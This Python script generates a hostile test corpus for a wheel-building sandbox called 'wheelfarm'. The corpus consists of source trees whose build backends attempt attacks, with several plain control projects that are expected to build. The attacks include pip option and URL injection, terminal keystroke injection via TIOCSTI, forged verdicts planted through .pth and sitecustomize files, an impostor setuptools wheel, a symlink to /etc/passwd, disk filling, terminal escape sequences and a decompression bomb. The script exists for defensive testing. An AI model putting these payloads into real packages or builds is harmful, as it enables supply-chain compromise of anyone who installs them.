#!/usr/bin/env python3
"""Writes wheelfarm's hostile corpus: source trees that attack the build boundary, and controls
that must still build. Usage: make-corpus.py DIRECTORY PORT

Every case is a project with an in-tree PEP 517 backend (backend.py, through backend-path) that
wraps setuptools; the attack sits in get_requires_for_build_wheel (which runs in the sandbox),
in pyproject.toml's requires, or in what build_wheel leaves in the output folder. PORT is a
listener on the host's loopback that must never hear from a build.
"""
import json
import os
import sys

BACKEND_HEAD = '''
import os, sys
from setuptools import build_meta as _setuptools

def _settings(config_settings):
    return config_settings

get_requires_for_build_sdist = _setuptools.get_requires_for_build_sdist

def _output_folder():
    """The folder pip wheel -w puts the finished wheel in, read off pip's command line."""
    for pid in os.listdir("/proc"):
        try:
            argv = open("/proc/%s/cmdline" % pid, "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"wheel" in argv and b"-w" in argv:
            return argv[argv.index(b"-w") + 1].decode()
    return "/tmp"
prepare_metadata_for_build_wheel = _setuptools.prepare_metadata_for_build_wheel
build_sdist = _setuptools.build_sdist

def _wheel(wheel_directory, name, version, tag, files, record_ok=True):
    """A wheel made by hand: its file name, dist-info and RECORD say whatever the attack needs."""
    import base64, hashlib, zipfile
    info = "%s-%s.dist-info" % (name, version)
    files = dict(files)
    files[info + "/METADATA"] = ("Metadata-Version: 2.1\\nName: %s\\nVersion: %s\\n" % (name, version)).encode()
    files[info + "/WHEEL"] = ("Wheel-Version: 1.0\\nGenerator: hostile\\nRoot-Is-Purelib: false\\nTag: %s\\n" % tag).encode()
    rows = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        rows.append("%s,sha256=%s,%d" % (path, digest if record_ok else "A" * 43, len(data)))
    rows.append(info + "/RECORD,,")
    files[info + "/RECORD"] = ("\\n".join(rows) + "\\n").encode()
    filename = "%s-%s-%s.whl" % (name, version, tag)
    with zipfile.ZipFile(os.path.join(wheel_directory, filename), "w", zipfile.ZIP_DEFLATED) as archive:
        for path, data in files.items():
            archive.writestr(path, data)
    return filename

def _broken_extension(package):
    """An extension module that cannot load: it needs a symbol nothing provides (RTLD_NOW fails)."""
    import subprocess
    source = "/tmp/broken.c"
    with open(source, "w") as out:
        out.write("extern void wheelfarm_nowhere(void);\\nvoid *PyInit__broken(void) { wheelfarm_nowhere(); return 0; }\\n")
    subprocess.check_call(["gcc", "-shared", "-fPIC", "-o", "/tmp/_broken.so", source])
    return {package + "/_broken.cpython-311-x86_64-linux-gnu.so": open("/tmp/_broken.so", "rb").read()}

# What a forger writes: a verdict saying every module imported, on every descriptor it can find, then out.
FORGE = (
    "import os, json\\n"
    "line = json.dumps({'results': [], 'libs': []}) + '\\\\n'\\n"
    "fake = 'WHEELFARM-MODULE ' + json.dumps({'module': 'x', 'kind': 'ok'}) + '\\\\n'\\n"
    "for fd in range(0, 64):\\n"
    "    try:\\n"
    "        os.write(fd, line.encode()); os.write(fd, fake.encode())\\n"
    "    except OSError:\\n"
    "        pass\\n"
    "os._exit(0)\\n"
)
'''

PLAIN_GET_REQUIRES = '''
def get_requires_for_build_wheel(config_settings=None):
    return []
'''

PLAIN_BUILD_WHEEL = '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return _setuptools.build_wheel(wheel_directory, config_settings, metadata_directory)
'''

CASES = {
    # --- attacks -------------------------------------------------------------------------------
    # A build requirement that is a pip option: it would make the host's pip write a file.
    "requires-option": {
        "requires": ["setuptools", "--report=/tmp/wheelfarm-hostile-report.json"],
    },
    # A direct reference: the host's pip would fetch an address the sdist chose.
    "requires-url": {
        "requires": ["setuptools", "hostileprobe @ http://127.0.0.1:{port}/hostileprobe-1.0-py3-none-any.whl"],
    },
    # The backend's hook answers with options and a URL.
    "hook-options": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    return ["--index-url=http://127.0.0.1:{port}/simple/", "hostileprobe"]
''',
    },
    # The backend prints the helper's protocol on its standard output and tries to reach the
    # helper's control channel: nothing of it may count.
    "forged-protocol": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    print('{{"requires": ["wheelfarm-forged-probe"]}}', flush=True)
    print('WHEELFARM-REQUIRES ["wheelfarm-forged-probe"]', flush=True)
    print('{{"building": true}}', flush=True)
    for path in ["/proc/self/fd/3", "/proc/%d/fd/3" % os.getppid(), "/dev/fd/3"]:
        try:
            with open(path, "w") as control:
                control.write('{{"requires": ["wheelfarm-forged-probe"]}}\\n')
            print("FORGED-CONTROL wrote", path, flush=True)
        except OSError as error:
            print("forged-protocol: cannot open", path, error.strerror, flush=True)
    return []
''',
    },
    # Keystrokes pushed into the controlling terminal (TIOCSTI) would run as root once wheelfarm exits.
    "terminal": {
        "get_requires": '''
import fcntl, termios
def get_requires_for_build_wheel(config_settings=None):
    command = "echo INJECTED-BY-THE-BUILD\\n"
    targets = []
    try:
        targets.append(os.open("/dev/tty", os.O_RDWR))
    except OSError as error:
        print("terminal: no /dev/tty:", error.strerror, flush=True)
    targets += [0, 1, 2]
    for fd in targets:
        try:
            for character in command:
                fcntl.ioctl(fd, termios.TIOCSTI, character.encode())
            print("TERMINAL-INJECTED through fd", fd, flush=True)
        except OSError as error:
            print("terminal: fd", fd, error.strerror, flush=True)
    return []
''',
    },
    # System calls a build never needs.
    "kernel-surface": {
        "get_requires": '''
import ctypes, errno
def get_requires_for_build_wheel(config_settings=None):
    libc = ctypes.CDLL(None, use_errno=True)
    for name, call in [("userns", lambda: libc.unshare(0x10000000)), ("keyctl", lambda: libc.syscall(250, 0, 0, 0, 0)),
                       ("bpf", lambda: libc.syscall(321, 0, 0, 0)), ("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
                       ("io_uring_setup", lambda: libc.syscall(425, 4, ctypes.create_string_buffer(120))), ("vsock", lambda: libc.socket(40, 1, 0))]:
        result = call()
        print("kernel-surface:", name, "allowed" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?"), flush=True)
    return []
''',
    },
    # Gigabytes beside the wheel (here 300 MiB), meant for the host's disk: written straight into the
    # folder the wheel is taken from (pip's -w folder, which the build can read off pip's command line).
    "disk-fill": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = _setuptools.build_wheel(wheel_directory, config_settings, metadata_directory)
    with open(_output_folder() + "/filler.bin", "wb") as filler:
        for _ in range(300):
            filler.write(b"\\0" * (1 << 20))
    return name
''',
    },
    # A "wheel" that is a link to a file of the root, and a fifo beside it, in that same folder.
    "output-link": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = _setuptools.build_wheel(wheel_directory, config_settings, metadata_directory)
    os.symlink("/etc/passwd", _output_folder() + "/" + name.replace("-1.0-", "-1.0-1-"))
    os.mkfifo(_output_folder() + "/pipe")
    return name
''',
    },
    # 400 MiB of output: the farm's memory must stay flat and the log keep head and tail.
    "flood": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    line = ("flood " * 20 + "\\n").encode()
    out = os.fdopen(1, "wb", closefd=False)
    for _ in range((400 << 20) // len(line)):
        out.write(line)
    out.flush()
    print("FLOOD-END", flush=True)
    return []
''',
    },
    # --- what the build hands back -------------------------------------------------------------
    # An sdist that declares hostile_impostor 1.0 and builds a wheel of setuptools 99.
    "impostor": {
        "pkg_info": True,
        "build_wheel": '''
def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    # pip checks the wheel against this metadata: the impostor's metadata agrees with its wheel.
    info = os.path.join(metadata_directory, "setuptools-99.dist-info")
    os.makedirs(info)
    with open(os.path.join(info, "METADATA"), "w") as out:
        out.write("Metadata-Version: 2.1\\nName: setuptools\\nVersion: 99\\n")
    return "setuptools-99.dist-info"

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return _wheel(wheel_directory, "setuptools", "99", "py3-none-any", {"setuptools/__init__.py": b"OWNED = True\\n"})
''',
    },
    # A broken extension with a .pth file that forges the test's verdict.
    "verdict-pth": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = _broken_extension("hostile_verdict_pth")
    files["hostile_verdict_pth/__init__.py"] = b""
    files["zz-forge.pth"] = ("import os; exec(" + repr(FORGE) + ")\\n").encode()
    return _wheel(wheel_directory, "hostile_verdict_pth", "1.0", "cp311-cp311-linux_x86_64", files)
''',
    },
    # The same with a sitecustomize module.
    "verdict-sitecustomize": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = _broken_extension("hostile_verdict_sitecustomize")
    files["hostile_verdict_sitecustomize/__init__.py"] = b""
    files["sitecustomize.py"] = FORGE.encode()
    return _wheel(wheel_directory, "hostile_verdict_sitecustomize", "1.0", "cp311-cp311-linux_x86_64", files)
''',
    },
    # The package itself forges: its __init__ writes fake verdicts to every descriptor and exits 0.
    "verdict-module": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    files = _broken_extension("hostile_verdict_module")
    files["hostile_verdict_module/__init__.py"] = FORGE.encode()
    return _wheel(wheel_directory, "hostile_verdict_module", "1.0", "cp311-cp311-linux_x86_64", files)
''',
    },
    # Three hundred build requirements: the host would fetch whatever the sdist lists.
    "many-requires": {
        "pkg_info": True,
        "requires": ["setuptools"] + ["hostile-package-%d" % index for index in range(300)],
    },
    # An extension that links a library of the root: the repair grafts it, and patchelf, which
    # parses the build's binaries, must run in the sandbox rather than on the host.
    "grafts": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import glob, subprocess, sysconfig
    source = "/tmp/ext.c"
    with open(source, "w") as out:
        out.write("#include <Python.h>\\nextern void ffi_call(void);\\nvoid *wheelfarm_keep = (void *)ffi_call;\\n"
                  "static struct PyModuleDef m = {PyModuleDef_HEAD_INIT, \\"_ext\\", NULL, -1, NULL};\\n"
                  "PyMODINIT_FUNC PyInit__ext(void) { return PyModule_Create(&m); }\\n")
    library = sorted(glob.glob("/usr/lib/*-linux-gnu/libffi.so.*"))[0]
    subprocess.check_call(["gcc", "-shared", "-fPIC", "-I" + sysconfig.get_paths()["include"], "-o", "/tmp/_ext.so", source,
                           "-Wl,--no-as-needed", library])
    files = {"hostile_grafts/__init__.py": b"", "hostile_grafts/_ext.cpython-311-x86_64-linux-gnu.so": open("/tmp/_ext.so", "rb").read()}
    return _wheel(wheel_directory, "hostile_grafts", "1.0", "cp311-cp311-linux_x86_64", files)
''',
    },
    # Escape sequences for the operator's terminal: a window title, a clipboard write, cursor moves; then a failure.
    "escapes": {
        "pkg_info": True,
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    print("title \\x1b]0;OWNED-TITLE\\x07 clipboard \\x1b]52;c;b3duZWQ=\\x07 up \\x1b[3A\\x1b[2K hidden\\rerror: ESCAPES-END", flush=True)
    raise SystemExit("\\x1b]0;OWNED-FAILURE\\x07 the build failed")
''',
    },
    # A 192-byte ELF whose symbol table claims 2^44 entries, as an extension module.
    "elf-claims": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import struct
    elf = bytearray(192)
    elf[0:7] = b"\\x7fELF\\x02\\x01\\x01"
    struct.pack_into("<HH", elf, 16, 3, 62)
    struct.pack_into("<Q", elf, 40, 64)
    struct.pack_into("<HH", elf, 58, 64, 2)
    struct.pack_into("<I", elf, 128 + 4, 11)
    struct.pack_into("<QQ", elf, 128 + 24, 0, 24 << 44)
    struct.pack_into("<Q", elf, 128 + 56, 24)
    files = {"hostile_elf_claims/__init__.py": b"", "hostile_elf_claims/_x.cpython-311-x86_64-linux-gnu.so": bytes(elf)}
    return _wheel(wheel_directory, "hostile_elf_claims", "1.0", "cp311-cp311-linux_x86_64", files)
''',
    },
    # A 20 MiB wheel whose one member inflates to 4 GiB (ratio under 200, so its size alone does not refuse it).
    "inflates": {
        "build_wheel": '''
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    import random, struct, zlib
    random.seed(7)
    chunk = bytes(random.getrandbits(8) for _ in range(8192)) + bytes((1 << 20) - 8192)
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    count = 4096
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    size = count << 20
    info = "hostile_inflates-1.0.dist-info"
    name = "hostile_inflates/blob.bin"
    filename = "hostile_inflates-1.0-py3-none-any.whl"
    small = {info + "/METADATA": b"Metadata-Version: 2.1\\nName: hostile_inflates\\nVersion: 1.0\\n",
             info + "/WHEEL": b"Wheel-Version: 1.0\\nGenerator: hostile\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
             info + "/RECORD": (name + ",sha256=" + "A" * 43 + "," + str(size) + "\\n" + info + "/RECORD,,\\n").encode()}
    central = b""
    with open(os.path.join(wheel_directory, filename), "wb") as out:
        def member(path, data_crc, compressed, usize, method, write_data):
            nonlocal central
            offset = out.tell()
            path_bytes = path.encode()
            # ZIP64 for the large member: sizes in an extra field.
            big = usize >= 0xFFFFFFFF
            extra = struct.pack("<HHQQ", 1, 16, usize, compressed) if big else b""
            out.write(struct.pack("<IHHHHHIIIHH", 0x04034b50, 45, 0, method, 0, 0x21, data_crc,
                                  0xFFFFFFFF if big else compressed, 0xFFFFFFFF if big else usize, len(path_bytes), len(extra)) + path_bytes + extra)
            write_data()
            cextra = struct.pack("<HHQQQ", 1, 24, usize, compressed, offset) if big else b""
            central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 45, 45, 0, method, 0, 0x21, data_crc,
                                   0xFFFFFFFF if big else compressed, 0xFFFFFFFF if big else usize, len(path_bytes), len(cextra), 0, 0, 0, 0,
                                   0xFFFFFFFF if big else offset) + path_bytes + cextra
        compressed = len(block) * count + 2
        def blob():
            for _ in range(count):
                out.write(block)
            out.write(b"\\x03\\x00")
        member(name, crc, compressed, size, 8, blob)
        for path, data in small.items():
            member(path, zlib.crc32(data), len(data), len(data), 0, lambda data=data: out.write(data))
        start = out.tell()
        out.write(central)
        end = out.tell()
        out.write(struct.pack("<IQHHIIQQQQ", 0x06064b50, 44, 45, 45, 0, 0, 4, 4, end - start, start))
        out.write(struct.pack("<IIQI", 0x07064b50, 0, end, 1))
        out.write(struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 4, 4, end - start, 0xFFFFFFFF, 0))
    return filename
''',
    },
    # --- controls: these must build ------------------------------------------------------------
    "control-plain": {},
    "control-extra-requirement": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    return ["wheel>=0.40"]
''',
    },
    "control-chatty": {
        "get_requires": '''
def get_requires_for_build_wheel(config_settings=None):
    for index in range(200000):
        print("compiling unit", index, "of 200000 with a long and perfectly ordinary line of output", flush=False)
    sys.stdout.flush()
    return []
''',
    },
}


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as handle:
        handle.write(text)


def main():
    directory, port = sys.argv[1], sys.argv[2]
    for case, parts in CASES.items():
        name = "hostile_" + case.replace("-", "_")
        root = os.path.join(directory, case)
        requires = [r.format(port=port) for r in parts.get("requires", ["setuptools"])]
        write(os.path.join(root, "pyproject.toml"),
              "[build-system]\nrequires = %s\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\n"
              "[project]\nname = \"%s\"\nversion = \"1.0\"\n\n[tool.setuptools]\npackages = [\"%s\"]\n"
              % (json.dumps(requires), name, name))
        backend = BACKEND_HEAD + parts.get("get_requires", PLAIN_GET_REQUIRES).format(port=port) + parts.get("build_wheel", PLAIN_BUILD_WHEEL)
        write(os.path.join(root, "backend.py"), backend)
        write(os.path.join(root, name, "__init__.py"), "CASE = %r\n" % case)
        if parts.get("pkg_info"):
            write(os.path.join(root, "PKG-INFO"), "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name)


if __name__ == "__main__":
    main()
